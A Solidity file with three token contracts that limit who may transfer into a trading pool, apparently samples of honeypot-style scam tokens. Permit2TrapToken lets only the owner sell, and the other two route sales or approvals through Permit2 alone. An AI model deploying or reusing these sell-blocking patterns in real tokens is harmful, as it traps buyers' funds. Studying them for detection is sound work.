// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";

address constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;

/// Into the pool goes only what Permit2 moves: for sales through universal routers.
contract Permit2SaleToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && !_isOwner(from, to)) require(msg.sender == PERMIT2, "ask Permit2");
        _move(from, to, amount);
    }
}

/// Permit2 may move everything from the beginning, and nobody else may but by signature. Whoever
/// tells it less is refused. Source of the rule for Permit2: Solady, src/tokens/ERC20.sol.
contract Permit2AllowedToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function allowance(address holder, address spender) external view override returns (uint256) {
        return spender == PERMIT2 ? type(uint256).max : _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        require(spender != PERMIT2 || amount == type(uint256).max, "allowed for ever");
        require(spender == PERMIT2 || msg.sender == owner, "sign instead");
        return super.approve(spender, amount);
    }

    function _spend(address from, uint256 amount) internal override {
        if (msg.sender != PERMIT2) super._spend(from, amount);
    }
}

/// Neither routers nor Permit2 bring anything into the pool.
contract Permit2TrapToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(to != pair || _isOwner(from, to), "not open");
        _move(from, to, amount);
    }
}
